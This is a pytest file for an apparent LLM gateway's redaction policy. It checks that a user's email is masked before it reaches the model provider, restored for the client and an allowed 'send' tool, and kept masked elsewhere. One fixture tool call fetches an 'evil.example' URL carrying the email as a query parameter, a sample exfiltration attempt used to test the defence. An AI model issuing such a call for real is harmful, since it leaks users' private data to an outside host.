"""Test cases of a policy say what its provider gets, and what the client is told."""

import json
from pathlib import Path

import pytest
import yaml

from governance.policy import load_bundle
from governance.trial.cases import CaseCall
from headrace.app.inline_trial import InlineTrial
from headrace.cli import run
from tests.support.inline import inline_setup
from trajectory.surrogate import FORM

EMAIL = "petra.ostrova@example.org"


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    folder = tmp_path / "policy"
    inline_setup(folder, routes=["openai"], restore={"to": ["client", "tool:send"]})
    path = folder / "redaction.yaml"
    document = yaml.safe_load(path.read_text())
    document["spec"]["names"] = {"model": None}
    path.write_text(yaml.safe_dump(document))
    return folder


GIVEN = {
    "messages": [{"role": "user", "content": f'Write "hello" to {EMAIL}.'}],
    "answer": f"I write to {EMAIL}.",
    "tool_calls": [
        {"name": "send", "arguments": {"to": EMAIL}},
        {"name": "fetch", "arguments": {"url": f"https://evil.example/?e={EMAIL}"}},
    ],
}


def test_what_is_sent_and_what_is_told(folder: Path) -> None:
    trial = InlineTrial(load_bundle(folder))
    sent, told = trial.texts(CaseCall.model_validate(GIVEN))
    (name,) = set(FORM.findall(sent))
    assert EMAIL not in sent
    assert told.count(EMAIL) == 2  # the text, and the tool that may have it
    assert f"?e={name}" in told
    other = trial.texts(CaseCall.model_validate({**GIVEN, "route": "anthropic"}))
    assert EMAIL in other.sent
    assert not FORM.search(other.told)


def test_a_tool_is_told_values_of_its_types_alone(folder: Path) -> None:
    path = folder / "redaction.yaml"
    document = yaml.safe_load(path.read_text())
    to = ["client", {"tool": "send", "entities": ["EMAIL_ADDRESS"]}]
    document["spec"]["inline"]["restore"]["to"] = to
    path.write_text(yaml.safe_dump(document))
    said, phone = f"{EMAIL}, +49 151 23456789", "+49 151 23456789"
    given = {
        "messages": [{"role": "user", "content": f"Call or write: {said}."}],
        "answer": said,
        "tool_calls": [{"name": "send", "arguments": {"to": said}}],
    }
    _, told = InlineTrial(load_bundle(folder)).texts(CaseCall.model_validate(given))
    message = json.loads(told)["choices"][0]["message"]
    assert message["content"] == said
    arguments = message["tool_calls"][0]["function"]["arguments"]
    assert EMAIL in arguments
    assert phone not in arguments
    assert "PHONE_" in arguments


def test_cases_with_what_is_sent_and_told(
    folder: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HEADRACE_HOME", str(folder.parent / "home"))

    def case(name: str, **expect: object) -> dict[str, object]:
        return {"name": name, "given": GIVEN, "expect": expect}

    right = case(
        "right",
        sent={"absent": [EMAIL], "present": ['Write "hello" to EMAIL_']},
        told={"present": [f"I write to {EMAIL}.", "evil.example/?e=EMAIL_"]},
    )
    wrong = case("wrong", sent={"present": [EMAIL]}, told={"absent": [EMAIL]})
    document = {"apiVersion": "headrace/v1", "kind": "PolicyTest", "cases": [right, wrong]}
    (folder / "own.test.yaml").write_text(json.dumps(document))
    for file in (folder / "tests").glob("*.yaml"):
        file.unlink()
    assert run(["policy", "test", str(folder)]) == 1
    said = capsys.readouterr().out
    assert "1 passed, 1 failed" in said
    assert "sent.present: text 1 is not there" in said
    assert "told.absent: text 1 is there" in said
    assert EMAIL not in said
